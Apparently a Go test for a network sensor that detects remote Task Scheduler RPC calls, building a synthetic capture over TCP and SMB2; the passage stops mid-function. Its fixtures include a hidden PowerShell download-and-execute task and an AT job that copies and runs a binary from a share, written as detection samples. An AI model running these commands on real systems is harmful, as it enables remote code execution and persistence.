package sensor

// Every MS-TSCH opnum through the whole sensor: the test writes a capture of
// its own (go-msrpc marshals each stub; the DCE-RPC PDUs, SMB2 messages and
// Ethernet/IPv4/TCP frames around it are built here after MS-RPCE, MS-SMB2
// and RFC 793, the frames serialized by gopacket with real checksums), replays
// it with Replay and checks every event and the alerts.

import (
	"bytes"
	"context"
	"encoding/binary"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"net"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/google/gopacket"
	"github.com/google/gopacket/layers"
	"github.com/google/gopacket/pcapgo"
	"github.com/oiweiwei/go-msrpc/msrpc/dtyp"
	gotsch "github.com/oiweiwei/go-msrpc/msrpc/tsch"
	tschatsvc "github.com/oiweiwei/go-msrpc/msrpc/tsch/atsvc/v1"
	tschitss "github.com/oiweiwei/go-msrpc/msrpc/tsch/itaskschedulerservice/v1"
	tschsasec "github.com/oiweiwei/go-msrpc/msrpc/tsch/sasec/v1"
	"github.com/oiweiwei/go-msrpc/ndr"
)

// Syntaxes and interfaces by UUID (MS-RPCE 2.2.5.1, MS-TSCH 1.9).
const (
	ocUUIDNDR   = "8a885d04-1ceb-11c9-9fe8-08002b104860"
	ocUUIDNDR64 = "71710533-beba-4937-8319-b5dbef9ccc36"
	ocUUIDBTFN  = "6cb71c2c-9812-4540-0300-000000000000" // bind time feature negotiation, bitmask 3
	ocUUIDATSVC = "1ff70682-0a51-30e8-076d-740be8cee98b"
	ocUUIDSASec = "378e52b0-c0a9-11cf-822d-00aa0051e40f"
	ocUUIDITSS  = "86d35949-83c9-4044-b424-db363231fd0c"

	ocFSCTLPipeTransceive = 0x0011c017
	ocMSS                 = 1460
	// Secrets the requests carry; none may reach the output.
	ocPassword  = "Oc-Run-As-Secret-42"
	ocPassword2 = "Oc-NS-Secret-77"
)

var ocTaskArgs = `-NoP -W Hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://10.99.0.66/s.ps1')"`

// ocTaskXML is a task definition as schtasks.exe writes them; the long
// description makes the request span several TCP segments and fragments.
var ocTaskXML = `<?xml version="1.0" encoding="UTF-16"?>
<Task version="1.2" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">
  <RegistrationInfo>
    <Date>2026-01-12T09:14:03</Date>
    <Author>CORP\opadmin</Author>
    <Description>` + strings.Repeat("Keeps the inventory agent up to date. ", 40) + `</Description>
    <URI>\Microsoft\Windows\OcInventory\Updater</URI>
  </RegistrationInfo>
  <Triggers>
    <BootTrigger>
      <Enabled>true</Enabled>
    </BootTrigger>
  </Triggers>
  <Principals>
    <Principal id="Author">
      <UserId>S-1-5-18</UserId>
      <RunLevel>HighestAvailable</RunLevel>
    </Principal>
  </Principals>
  <Settings>
    <Hidden>true</Hidden>
    <Enabled>true</Enabled>
  </Settings>
  <Actions Context="Author">
    <Exec>
      <Command>powershell.exe</Command>
      <Arguments>` + strings.NewReplacer(`"`, "&quot;", "'", "&apos;").Replace(ocTaskArgs) + `</Arguments>
    </Exec>
  </Actions>
</Task>
`

// ocOp is what go-msrpc's request types offer.
type ocOp interface {
	ndr.Marshaler
	OpNum() int
	OpName() string
}

// ocCase is one call: the request and response go-msrpc marshals and what
// the event must say (JSON paths below the event, "." separated, list
// indexes as numbers).
type ocCase struct {
	req     ocOp
	resp    ndr.Marshaler
	outcome string
	want    map[string]any
	alert   string
}

type ocIface struct {
	name, uuid string
	cases      []ocCase
}

func ocIfaces() []ocIface {
	const srv = `\\10.99.0.2`
	at := &gotsch.ATInfo{JobTime: 49020000, DaysOfMonth: 1 | 1<<14, DaysOfWeek: 0x41, Flags: 0x10,
		Command: `cmd.exe /c copy \\10.99.0.66\s\p.exe C:\Windows\Temp\p.exe & C:\Windows\Temp\p.exe`}
	guid := &dtyp.GUID{Data1: 0x5f1e2d3c, Data2: 0x4b5a, Data3: 0x6978, Data4: []byte{0x87, 0x96, 0xa5, 0xb4, 0xc3, 0xd2, 0xe1, 0xf0}}
	const guidText = "5f1e2d3c-4b5a-6978-8796-a5b4c3d2e1f0"
	st := &dtyp.SystemTime{Year: 2026, Month: 1, DayOfWeek: 1, Day: 12, Hour: 9, Minute: 30, Second: 5, Milliseconds: 7}
	const stText = "2026-01-12T09:30:05.007Z"
	const path = `\Microsoft\Windows\OcInventory\Updater`
	p := func(kv ...any) map[string]any {
		m := map[string]any{}
		for i := 0; i < len(kv); i += 2 {
			m[kv[i].(string)] = kv[i+1]
		}
		return m
	}
	return []ocIface{
		{"ATSVC", ocUUIDATSVC, []ocCase{
			{&tschatsvc.JobAddRequest{ServerName: srv, ATInfo: at}, &tschatsvc.JobAddResponse{JobID: 3}, "success",
				p("tsch.task.command", at.Command, "tsch.job.job_time", "13:37", "tsch.job.job_time_ms", 49020000,
					"tsch.job.server_name", srv, "tsch.job.job_id", 3, "tsch.job.days_of_month", []int{1, 15}), "remote_at_job_created"},
			{&tschatsvc.JobDeleteRequest{ServerName: srv, MinJobID: 3, MaxJobID: 3}, &tschatsvc.JobDeleteResponse{Return: 5}, "failure",
				p("tsch.job.min_job_id", 3, "tsch.job.max_job_id", 3, "tsch.return_name", "ERROR_ACCESS_DENIED"), ""},
			{&tschatsvc.JobEnumRequest{ServerName: srv, EnumContainer: &tschatsvc.ATEnumContainer{}, PreferredMaximumLength: 0xffffffff},
				&tschatsvc.JobEnumResponse{EnumContainer: &tschatsvc.ATEnumContainer{EntriesRead: 1, Buffer: []*gotsch.ATEnum{
					{JobID: 3, JobTime: 49020000, Flags: 0x10, Command: at.Command}}}, TotalEntries: 1}, "success",
				p("tsch.job.entries_read", 1, "tsch.job.jobs.0.command", at.Command, "tsch.job.jobs.0.job_time", "13:37"), ""},
			{&tschatsvc.JobGetInfoRequest{ServerName: srv, JobID: 3}, &tschatsvc.JobGetInfoResponse{ATInfo: at}, "success",
				p("tsch.job.job_id", 3, "tsch.task.command", at.Command), ""},
		}},
		{"SASec", ocUUIDSASec, []ocCase{
			{&tschsasec.SetAccountInformationRequest{Handle: srv, JobName: "OcBackup.job", Account: `CORP\svc_backup`,
				Password: ocPassword, JobFlags: 0x40000}, &tschsasec.SetAccountInformationResponse{}, "success",
				p("tsch.account.account_name", `CORP\svc_backup`, "tsch.account.job_name", "OcBackup.job",
					"tsch.task.run_as", `CORP\svc_backup`), "remote_task_account_set"},
			{&tschsasec.SetNSAccountInformationRequest{Handle: srv, Account: `CORP\svc_ns`, Password: ocPassword2},
				&tschsasec.SetNSAccountInformationResponse{Return: -2147024891}, "failure", // E_ACCESSDENIED
				p("tsch.account.account_name", `CORP\svc_ns`, "tsch.return_name", "E_ACCESSDENIED"), ""},
			{&tschsasec.GetNSAccountInformationRequest{Handle: srv, BufferSize: 12, Buffer: strings.Repeat("\x00", 12)},
				&tschsasec.GetNSAccountInformationResponse{BufferSize: 12, Buffer: "CORP\\svc_ns\x00"}, "success",
				p("tsch.account.account_name", `CORP\svc_ns`), ""},
			{&tschsasec.GetAccountInformationRequest{Handle: srv, JobName: "OcBackup.job", BufferSize: 16, Buffer: strings.Repeat("\x00", 16)},
				&tschsasec.GetAccountInformationResponse{BufferSize: 16, Buffer: "CORP\\svc_backup\x00"}, "success",
				p("tsch.account.account_name", `CORP\svc_backup`, "tsch.account.job_name", "OcBackup.job"), ""},
		}},
		{"ITaskSchedulerService", ocUUIDITSS, []ocCase{
			{&tschitss.HighestVersionRequest{}, &tschitss.HighestVersionResponse{Version: 0x00010006}, "success",
				p("tsch.version", "1.6"), ""},
			{&tschitss.RegisterTaskRequest{Path: path, XML: ocTaskXML, Flags: 0x6, LogonType: 1, CredsCount: 1,
				Creds: []*tschitss.TaskUserCred{{UserID: `CORP\svc_inv`, Password: ocPassword, Flags: 1}}},
				&tschitss.RegisterTaskResponse{ActualPath: path}, "success",
				p("tsch.task.path", path, "tsch.task.command", "powershell.exe", "tsch.task.arguments", ocTaskArgs,
					"tsch.task.run_as", "S-1-5-18", "tsch.register.actual_path", path,
					"tsch.register.credential_users", []string{`CORP\svc_inv`}, "tsch.register.logon_type", "TASK_LOGON_PASSWORD"),
				"remote_task_registered"},
			{&tschitss.RetrieveTaskRequest{Path: path, LanguagesBuffer: "en-US", LanguagesLength: 1},
				&tschitss.RetrieveTaskResponse{XML: ocTaskXML}, "success",
				p("tsch.task.path", path, "tsch.task.command", "powershell.exe", "tsch.task.arguments", ocTaskArgs), ""},
			{&tschitss.CreateFolderRequest{Path: `\Microsoft\Windows\OcInventory`, SDDL: "D:(A;;FA;;;BA)"},
				&tschitss.CreateFolderResponse{Return: -2147024713}, "failure", // ERROR_ALREADY_EXISTS
				p("tsch.task.path", `\Microsoft\Windows\OcInventory`, "tsch.security.sddl", "D:(A;;FA;;;BA)",
					"tsch.return_name", "ERROR_ALREADY_EXISTS"), ""},
			{&tschitss.SetSecurityRequest{Path: path, SDDL: "D:(A;;FA;;;WD)"}, &tschitss.SetSecurityResponse{}, "success",
				p("tsch.task.path", path, "tsch.security.sddl", "D:(A;;FA;;;WD)"), ""},
			{&tschitss.GetSecurityRequest{Path: path, SecurityInformation: 4}, &tschitss.GetSecurityResponse{SDDL: "D:(A;;FA;;;SY)"},
				"success", p("tsch.task.path", path, "tsch.security.sddl", "D:(A;;FA;;;SY)"), ""},
			{&tschitss.EnumFoldersRequest{Path: `\`, Flags: 1, RequestedCount: 10},
				&tschitss.EnumFoldersResponse{StartIndex: 1, NamesCount: 1, Names: []string{"Microsoft"}}, "success",
				p("tsch.task.path", `\`, "tsch.enum.names", []string{"Microsoft"}), ""},
			{&tschitss.EnumTasksRequest{Path: `\Microsoft\Windows\OcInventory`, RequestedCount: 10},
				&tschitss.EnumTasksResponse{StartIndex: 1, NamesCount: 1, Names: []string{"Updater"}}, "success",
				p("tsch.enum.names", []string{"Updater"}), ""},
			{&tschitss.EnumInstancesRequest{Path: path}, &tschitss.EnumInstancesResponse{GUIDsCount: 1, GUIDs: []*dtyp.GUID{guid}},
				"success", p("tsch.enum.instances", []string{guidText}), ""},
			{&tschitss.GetInstanceInfoRequest{GUID: guid}, &tschitss.GetInstanceInfoResponse{Path: path, State: 4,
				CurrentAction: "Exec", EnginePID: 4711}, "success",
				p("tsch.instance.guid", guidText, "tsch.instance.path", path, "tsch.instance.state", "TASK_STATE_RUNNING"), ""},
			{&tschitss.StopInstanceRequest{GUID: guid}, &tschitss.StopInstanceResponse{}, "success",
				p("tsch.instance.guid", guidText), ""},
			{&tschitss.StopRequest{Path: path}, &tschitss.StopResponse{}, "success", p("tsch.task.path", path), ""},
			{&tschitss.RunRequest{Path: path, ArgsCount: 1, Args: []string{"-Verbose"}}, &tschitss.RunResponse{GUID: guid}, "success",
				p("tsch.task.path", path, "tsch.run.arguments", []string{"-Verbose"}, "tsch.run.instance_guid", guidText), ""},
			{&tschitss.DeleteRequest{Path: path}, &tschitss.DeleteResponse{Return: -2147024894}, "failure", // ERROR_FILE_NOT_FOUND
				p("tsch.task.path", path, "tsch.return_name", "ERROR_FILE_NOT_FOUND"), ""},
			{&tschitss.RenameRequest{Path: path, NewName: path + "2"}, &tschitss.RenameResponse{Return: -2147467263}, "failure", // E_NOTIMPL
				p("tsch.task.path", path, "tsch.task.new_path", path+"2"), ""},
			{&tschitss.ScheduledRuntimesRequest{Path: path, Start: st, End: st, RequestedCount: 1},
				&tschitss.ScheduledRuntimesResponse{RuntimesCount: 1, Runtimes: []*dtyp.SystemTime{st}}, "success",
				p("tsch.task.path", path, "tsch.runtimes.runtimes", []string{stText}), ""},
			{&tschitss.GetLastRunInfoRequest{Path: path}, &tschitss.GetLastRunInfoResponse{LastRuntime: st, LastReturnCode: 0}, "success",
				p("tsch.task.path", path, "tsch.last_run.time", stText), ""},
			{&tschitss.GetTaskInfoRequest{Path: path}, &tschitss.GetTaskInfoResponse{Enabled: 1, State: 3}, "success",
				p("tsch.task.path", path, "tsch.task.enabled", true, "tsch.task.state", "TASK_STATE_READY"), ""},
			{&tschitss.GetNumberOfMissedRunsRequest{Path: path}, &tschitss.GetNumberOfMissedRunsResponse{NumberOfMissedRuns: 2},
				"success", p("tsch.task.path", path, "tsch.missed_runs", 2), ""},
			{&tschitss.EnableTaskRequest{Path: path, Enabled: 1}, &tschitss.EnableTaskResponse{}, "success",
				p("tsch.task.path", path, "tsch.task.enabled", true), ""},
		}},
	}
}

// ---- frames ----

type ocPacket struct {
	ci   gopacket.CaptureInfo
	data []byte
}

// ocCapture collects frames with capture times 200 µs apart.
type ocCapture struct {
	t    testing.TB
	now  time.Time
	pkts []ocPacket
	ipID uint16
}

var (
	ocClientIP  = net.IPv4(10, 99, 0, 1).To4()
	ocServerIP  = net.IPv4(10, 99, 0, 2).To4()
	ocClientMAC = net.HardwareAddr{0x02, 0, 0, 0x63, 0, 1}
	ocServerMAC = net.HardwareAddr{0x02, 0, 0, 0x63, 0, 2}
)

// ocFlow is one TCP connection; sequence numbers follow the bytes sent.
type ocFlow struct {
	c            *ocCapture
	cport, sport uint16
	cseq, sseq   uint32
}

func (c *ocCapture) frame(fromClient bool, f *ocFlow, flags string, payload []byte) {
	c.t.Helper()
	c.now = c.now.Add(200 * time.Microsecond)
	c.ipID++
	eth := &layers.Ethernet{SrcMAC: ocClientMAC, DstMAC: ocServerMAC, EthernetType: layers.EthernetTypeIPv4}
	ip := &layers.IPv4{Version: 4, TTL: 64, Protocol: layers.IPProtocolTCP, Flags: layers.IPv4DontFragment, Id: c.ipID,
		SrcIP: ocClientIP, DstIP: ocServerIP}
	tcp := &layers.TCP{SrcPort: layers.TCPPort(f.cport), DstPort: layers.TCPPort(f.sport), Seq: f.cseq, Ack: f.sseq, Window: 64240}
	if !fromClient {
		eth.SrcMAC, eth.DstMAC = ocServerMAC, ocClientMAC
		ip.SrcIP, ip.DstIP = ocServerIP, ocClientIP
		tcp.SrcPort, tcp.DstPort, tcp.Seq, tcp.Ack = tcp.DstPort, tcp.SrcPort, f.sseq, f.cseq
	}
	tcp.SYN = strings.Contains(flags, "S")
	tcp.ACK = strings.Contains(flags, "A")
	tcp.FIN = strings.Contains(flags, "F")
	tcp.PSH = strings.Contains(flags, "P")
	if err := tcp.SetNetworkLayerForChecksum(ip); err != nil {
		c.t.Fatal(err)
	}
	buf := gopacket.NewSerializeBuffer()
	err := gopacket.SerializeLayers(buf, gopacket.SerializeOptions{FixLengths: true, ComputeChecksums: true},
		eth, ip, tcp, gopacket.Payload(payload))
	if err != nil {
		c.t.Fatalf("serializing a frame: %v", err)
	}
	b := append([]byte(nil), buf.Bytes()...)
	c.pkts = append(c.pkts, ocPacket{gopacket.CaptureInfo{Timestamp: c.now, CaptureLength: len(b), Length: len(b)}, b})
	n := uint32(len(payload))
	if tcp.SYN || tcp.FIN {
		n++
	}
	if fromClient {
		f.cseq += n
	} else {
		f.sseq += n
	}
}

// open starts a connection with the three-way handshake.
func (c *ocCapture) open(cport, sport uint16) *ocFlow {
	f := &ocFlow{c: c, cport: cport, sport: sport, cseq: 0x1000_0000 + uint32(cport)<<8, sseq: 0x7000_0000 + uint32(cport)<<4}
	c.frame(true, f, "S", nil)
	c.frame(false, f, "SA", nil)
	c.frame(true, f, "A", nil)
	return f
}

// send carries data in MSS-sized segments; the receiver acknowledges.
func (f *ocFlow) send(fromClient bool, data []byte) {
	for len(data) > 0 {
		n := min(len(data), ocMSS)
		flags := "A"
		if n == len(data) {
			flags = "PA"
		}
		f.c.frame(fromClient, f, flags, data[:n])
		data = data[n:]
	}
	f.c.frame(!fromClient, f, "A", nil)
}

func (f *ocFlow) close() {
	f.c.frame(true, f, "FA", nil)
	f.c.frame(false, f, "FA", nil)
	f.c.frame(true, f, "A", nil)
}

func (c *ocCapture) write(path string) {
	c.t.Helper()
	fh, err := os.Create(path)
	if err != nil {
		c.t.Fatal(err)
	}
	w := pcapgo.NewWriterNanos(fh)
	if err := w.WriteFileHeader(65535, layers.LinkTypeEthernet); err != nil {
		c.t.Fatal(err)
	}
	for _, p := range c.pkts {
		if err := w.WritePacket(p.ci, p.data); err != nil {
			c.t.Fatal(err)
		}
	}
	if err := fh.Close(); err != nil {
		c.t.Fatal(err)
	}
}

// ---- DCE-RPC (MS-RPCE 2.2.2, C706 12.6) ----

func ocUUID(t testing.TB, s string) []byte {
	t.Helper()
	h, err := hex.DecodeString(strings.ReplaceAll(s, "-", ""))
	if err != nil || len(h) != 16 {
		t.Fatalf("bad uuid %q", s)
	}
	b := make([]byte, 16)
	binary.LittleEndian.PutUint32(b, binary.BigEndian.Uint32(h))
	binary.LittleEndian.PutUint16(b[4:], binary.BigEndian.Uint16(h[4:]))
	binary.LittleEndian.PutUint16(b[6:], binary.BigEndian.Uint16(h[6:]))
	copy(b[8:], h[8:])
	return b
}

// ocSyntax is a syntax identifier: UUID and version (major in the low half).
func ocSyntax(t testing.TB, uuid string, major, minor uint16) []byte {
	return binary.LittleEndian.AppendUint32(ocUUID(t, uuid), uint32(minor)<<16|uint32(major))
}

func ocPDU(ptype, flags uint8, callID uint32, body []byte) []byte {
	b := []byte{5, 0, ptype, flags, 0x10, 0, 0, 0}
	b = binary.LittleEndian.AppendUint16(b, uint16(16+len(body)))
	b = binary.LittleEndian.AppendUint16(b, 0) // auth_length
	b = binary.LittleEndian.AppendUint32(b, callID)
	return append(b, body...)
}

type ocCtxElem struct {
	id       uint16
	abstract []byte
	transfer [][]byte
}

func ocBind(callID uint32, maxFrag uint16, ctxs []ocCtxElem) []byte {
	b := binary.LittleEndian.AppendUint16(nil, maxFrag)
	b = binary.LittleEndian.AppendUint16(b, maxFrag)
	b = binary.LittleEndian.AppendUint32(b, 0)
	b = append(b, byte(len(ctxs)), 0, 0, 0)
	for _, c := range ctxs {
		b = binary.LittleEndian.AppendUint16(b, c.id)
		b = append(b, byte(len(c.transfer)), 0)
		b = append(b, c.abstract...)
		for _, ts := range c.transfer {
			b = append(b, ts...)
		}
	}
	return ocPDU(11, 3, callID, b)
}

type ocResult struct {
	result, reason uint16
	syntax         []byte // 20 bytes; zero for a rejection
}

func ocBindAck(callID uint32, maxFrag uint16, secAddr string, res []ocResult) []byte {
	b := binary.LittleEndian.AppendUint16(nil, maxFrag)
	b = binary.LittleEndian.AppendUint16(b, maxFrag)
	b = binary.LittleEndian.AppendUint32(b, 0x1234)
	b = binary.LittleEndian.AppendUint16(b, uint16(len(secAddr)+1))
	b = append(append(b, secAddr...), 0)
	for (16+len(b))%4 != 0 {
		b = append(b, 0)
	}
	b = append(b, byte(len(res)), 0, 0, 0)
	for _, r := range res {
		b = binary.LittleEndian.AppendUint16(b, r.result)
		b = binary.LittleEndian.AppendUint16(b, r.reason)
		if r.syntax == nil {
			r.syntax = make([]byte, 20)
		}
		b = append(b, r.syntax...)
	}
	return ocPDU(12, 3, callID, b)
}

// ocRequest returns the request's fragments, each carrying at most maxStub
// stub bytes (a multiple of 8, as MS-RPCE 3.3.1.5.5 asks of all but the last).
func ocRequest(callID uint32, ctx, opnum uint16, stub []byte, maxStub int) [][]byte {
	var frags [][]byte
	for off := 0; off == 0 || off < len(stub); off += maxStub {
		end := min(off+maxStub, len(stub))
		var flags uint8
		if off == 0 {
			flags |= 1
		}
		if end == len(stub) {
			flags |= 2
		}
		b := binary.LittleEndian.AppendUint32(nil, uint32(len(stub)-off)) // alloc_hint: what is left
		b = binary.LittleEndian.AppendUint16(b, ctx)
		b = binary.LittleEndian.AppendUint16(b, opnum)
		frags = append(frags, ocPDU(0, flags, callID, append(b, stub[off:end]...)))
	}
	return frags
}

func ocResponse(callID uint32, ctx uint16, stub []byte) []byte {
	b := binary.LittleEndian.AppendUint32(nil, uint32(len(stub)))
	b = binary.LittleEndian.AppendUint16(b, ctx)
	b = append(b, 0, 0)
	return ocPDU(2, 3, callID, append(b, stub...))
}

func ocFault(callID uint32, ctx uint16, status uint32) []byte {
	b := binary.LittleEndian.AppendUint32(nil, 0)
	b = binary.LittleEndian.AppendUint16(b, ctx)
	b = append(b, 0, 0)
	b = binary.LittleEndian.AppendUint32(b, status)
	b = binary.LittleEndian.AppendUint32(b, 0)
	return ocPDU(3, 3, callID, b)
}

func ocMarshal(t testing.TB, ndr64 bool, m ndr.Marshaler) []byte {
	t.Helper()
	var w ndr.NDR
	if ndr64 {
		w = ndr.NDR64(nil, ndr.DataRepresentation(0x10))
	} else {
		w = ndr.NDR20(nil, ndr.DataRepresentation(0x10))
	}
	b, err := w.Marshal(context.Background(), m)
	if err != nil {
		t.Fatalf("go-msrpc marshal %T: %v", m, err)
	}
	return append([]byte(nil), b...)
}

// ---- SMB2 (MS-SMB2 2.2) ----

// ocSMB is an SMB2 session on one TCP connection to port 445.
type ocSMB struct {
	f       *ocFlow
	msgID   uint64
	session uint64
	tree    uint32
}

func (s *ocSMB) header(cmd uint16, response bool, status uint32, tree uint32) []byte {
	b := []byte{0xfe, 'S', 'M', 'B', 64, 0, 1, 0}
	b = binary.LittleEndian.AppendUint32(b, status)
	b = binary.LittleEndian.AppendUint16(b, cmd)
	b = binary.LittleEndian.AppendUint16(b, 1) // credits
	var flags uint32
	if response {
		flags = 1
	}
	b = binary.LittleEndian.AppendUint32(b, flags)
	b = binary.LittleEndian.AppendUint32(b, 0) // next command
	b = binary.LittleEndian.AppendUint64(b, s.msgID)
	b = binary.LittleEndian.AppendUint32(b, 0xfeff) // process id
	b = binary.LittleEndian.AppendUint32(b, tree)
	b = binary.LittleEndian.AppendUint64(b, s.session)
	return append(b, make([]byte, 16)...) // signature
}

// exchange sends one request and its response, each in an NBSS message.
func (s *ocSMB) exchange(cmd uint16, req, resp []byte) {
	s.exchangeTree(cmd, s.tree, s.tree, req, resp)
}

// exchangeTree is exchange with the trees the headers name: a TREE_CONNECT
// response carries the tree its request asked for.
func (s *ocSMB) exchangeTree(cmd uint16, reqTree, respTree uint32, req, resp []byte) {
	nbss := func(m []byte) []byte {
		return append([]byte{0, byte(len(m) >> 16), byte(len(m) >> 8), byte(len(m))}, m...)
	}
	s.f.send(true, nbss(append(s.header(cmd, false, 0, reqTree), req...)))
	s.f.send(false, nbss(append(s.header(cmd, true, 0, respTree), resp...)))
	s.msgID++
}

func ocU16(v ...uint16) []byte {
	var b []byte
	for _, x := range v {
		b = binary.LittleEndian.AppendUint16(b, x)
	}
	return b
}

func ocU32(v ...uint32) []byte {
	var b []byte
	for _, x := range v {
		b = binary.LittleEndian.AppendUint32(b, x)
	}
	return b
}

func ocUTF16(s string) []byte {
	var b []byte
	for _, r := range s {
		b = binary.LittleEndian.AppendUint16(b, uint16(r))
	}
	return b
}

func (s *ocSMB) negotiate() {
	req := append(ocU16(36, 1, 1, 0), ocU32(0)...)
	req = append(append(req, make([]byte, 16+8)...), ocU16(0x0210)...)
	resp := append(ocU16(65, 1, 0x0210, 0), make([]byte, 16)...)
	resp = append(resp, ocU32(0, 1<<20, 1<<20, 1<<20)...)
	resp = append(resp, make([]byte, 16)...)
	resp = append(resp, ocU16(128, 0)...)
	resp = append(resp, ocU32(0)...)
	s.exchange(0, req, resp)
	s.session = 0x0000_4400_0000_0011
}

func (s *ocSMB) treeConnect(unc string) {
	name := ocUTF16(unc)
	req := append(ocU16(9, 0, 64+8, uint16(len(name))), name...)
	resp := append([]byte{16, 0, 2, 0}, ocU32(0x30, 0, 0x1f01ff)...) // share type 2: pipe
	s.tree = 5
	s.exchangeTree(3, 0, s.tree, req, resp)
}

// create opens the pipe and returns its FileId.
func (s *ocSMB) create(name string, n byte) []byte {
	nm := ocUTF16(name)
	req := []byte{57, 0, 0, 0}
	req = append(req, ocU32(2)...)                       // impersonation
	req = append(req, make([]byte, 16)...)               // create flags, reserved
	req = append(req, ocU32(0x12019f, 0, 7, 1, 0x40)...) // access, attributes, share, open, non-directory
	req = append(req, ocU16(64+56, uint16(len(nm)))...)
	req = append(req, ocU32(0, 0)...)
	req = append(req, nm...)
	fid := []byte{n, 0, 0, 0, 0, 0, 0, 0, 0x40 + n, 0, 0, 0, 0x99, 0, 0, 0}
	resp := []byte{89, 0, 0, 0}
	resp = append(resp, ocU32(1)...)
	resp = append(resp, make([]byte, 48)...) // times, allocation size, end of file
	resp = append(resp, ocU32(0x80, 0)...)
	resp = append(resp, fid...)
	resp = append(resp, ocU32(0, 0)...)
	s.exchange(5, req, resp)
	return fid
}

func (s *ocSMB) write(fid, data []byte) {
	req := append(ocU16(49, 64+48), ocU32(uint32(len(data)))...)
	req = append(req, make([]byte, 8)...)
	req = append(req, fid...)
	req = append(req, make([]byte, 16)...)
	req = append(req, data...)
	resp := append(ocU16(17, 0), ocU32(uint32(len(data)), 0, 0)...)
	s.exchange(9, req, resp)
}

func (s *ocSMB) read(fid, data []byte) {
	req := append([]byte{49, 0, 0, 0}, ocU32(4280)...)
	req = append(req, make([]byte, 8)...)
	req = append(req, fid...)
	req = append(req, make([]byte, 17)...)
	resp := append([]byte{17, 0, 64 + 16, 0}, ocU32(uint32(len(data)), 0, 0)...)
	s.exchange(8, req, append(resp, data...))
}

func (s *ocSMB) transceive(fid, in, out []byte) {
	req := append(ocU16(57, 0), ocU32(ocFSCTLPipeTransceive)...)
	req = append(req, fid...)
	req = append(req, ocU32(64+56, uint32(len(in)), 0, 0, 0, 4280, 1, 0)...)
	req = append(req, in...)
	resp := append(ocU16(49, 0), ocU32(ocFSCTLPipeTransceive)...)
	resp = append(resp, fid...)
	resp = append(resp, ocU32(64+48, 0, 64+48, uint32(len(out)), 0, 0)...)
	s.exchange(11, req, append(resp, out...))
}

func (s *ocSMB) closeFile(fid []byte) {
	req := append(ocU16(24, 0), ocU32(0)...)
	resp := append(ocU16(60, 0), make([]byte, 56)...)
	s.exchange(6, append(req, fid...), resp)
}

// ---- the capture ----

// ocCall is one call of the capture and what its event must say.
type ocCall struct {
	id        uint32
	iface     string
	opnum     uint16
	op        string
	transport string
	syntax    string
	outcome   string
	want      map[string]any
	alert     string
	fault     string
	fragments int
}

// ocBuild writes the capture and returns the calls in it.
func ocBuild(t *testing.T, path string) []*ocCall {
	c := &ocCapture{t: t, now: time.Date(2026, 1, 12, 9, 30, 0, 0, time.UTC)}
	var calls []*ocCall
	callID := uint32(100)
	next := func() uint32 { callID++; return callID }
	ndrSyn := ocSyntax(t, ocUUIDNDR, 2, 0)
	ndr64Syn := ocSyntax(t, ocUUIDNDR64, 1, 0)
	accept := func(syn []byte) []ocResult { return []ocResult{{0, 0, syn}} }
	addCall := func(iface ocIface, cs ocCase, id uint32, transport, syntax string) *ocCall {
		name := cs.req.OpName()
		call := &ocCall{id: id, iface: iface.name, opnum: uint16(cs.req.OpNum()), op: name[strings.LastIndexByte(name, '/')+1:],
			transport: transport, syntax: syntax, outcome: cs.outcome, want: cs.want, alert: cs.alert, fragments: 1}
		calls = append(calls, call)
		return call
	}

	// (a) ncacn_ip_tcp: one connection per interface to a dynamic port.
	port := uint16(50000)
	for _, iface := range ocIfaces() {
		port++
		f := c.open(port, 49670)
		bind := next()
		f.send(true, ocBind(bind, 4280, []ocCtxElem{{0, ocSyntax(t, iface.uuid, 1, 0), [][]byte{ndrSyn}}}))
		f.send(false, ocBindAck(bind, 4280, "49670", accept(ndrSyn)))
		for _, cs := range iface.cases {
			call := addCall(iface, cs, next(), "ncacn_ip_tcp", "NDR")
			stub := ocMarshal(t, false, cs.req)
			maxStub := 4256
			if call.op == "SchRpcRegisterTask" {
				maxStub = 1024 // this one goes in several fragments
			}
			frags := ocRequest(call.id, 0, call.opnum, stub, maxStub)
			call.fragments = len(frags)
			f.send(true, bytes.Join(frags, nil))
			f.send(false, ocResponse(call.id, 0, ocMarshal(t, false, cs.resp)))
		}
		if iface.name == "ITaskSchedulerService" {
			// A fault, then a call the server never answers before the end.
			cs := iface.cases[11] // SchRpcStop
			fc := addCall(iface, cs, next(), "ncacn_ip_tcp", "NDR")
			fc.outcome, fc.fault, fc.alert, fc.want = "failure", "access_denied", "", map[string]any{"tsch.task.path": cs.want["tsch.task.path"]}
			f.send(true, ocRequest(fc.id, 0, fc.opnum, ocMarshal(t, false, cs.req), 4256)[0])
			f.send(false, ocFault(fc.id, 0, 5))
			cs = iface.cases[19] // SchRpcEnableTask
			nc := addCall(iface, cs, next(), "ncacn_ip_tcp", "NDR")
			nc.outcome, nc.want = "unknown", map[string]any{"tsch.task.path": cs.want["tsch.task.path"], "dcerpc.responded": false}
			f.send(true, ocRequest(nc.id, 0, nc.opnum, ocMarshal(t, false, cs.req), 4256)[0])
		}
		f.close()
	}

	// NDR64 as Windows binds it: NDR and NDR64 offered in two contexts
	// plus bind time feature negotiation; the server takes NDR64 (ctx 1).
	{
		f := c.open(50010, 49670)
		bind := next()
		abs := ocSyntax(t, ocUUIDITSS, 1, 0)
		f.send(true, ocBind(bind, 4280, []ocCtxElem{{0, abs, [][]byte{ndrSyn}}, {1, abs, [][]byte{ndr64Syn}},
			{2, abs, [][]byte{ocSyntax(t, ocUUIDBTFN, 1, 0)}}}))
		f.send(false, ocBindAck(bind, 4280, "49670", []ocResult{{2, 2, nil}, {0, 0, ndr64Syn}, {3, 3, nil}}))
		itss := ocIfaces()[2]
		for _, i := range []int{1, 7, 12, 16} { // RegisterTask, EnumTasks, Run, GetLastRunInfo
			cs := itss.cases[i]
			call := addCall(itss, cs, next(), "ncacn_ip_tcp", "NDR64")
			frags := ocRequest(call.id, 1, call.opnum, ocMarshal(t, true, cs.req), 4256)
			call.fragments = len(frags)
			f.send(true, bytes.Join(frags, nil))
			f.send(false, ocResponse(call.id, 1, ocMarshal(t, true, cs.resp)))
		}
		f.close()
	}

	// (b) ncacn_np: SMB2 to 445, \PIPE\atsvc opened once per interface;
	// calls alternate between WRITE+READ and FSCTL_PIPE_TRANSCEIVE.
	{
		s := &ocSMB{f: c.open(50020, 445)}
		s.negotiate()
		s.treeConnect(`\\10.99.0.2\IPC$`)
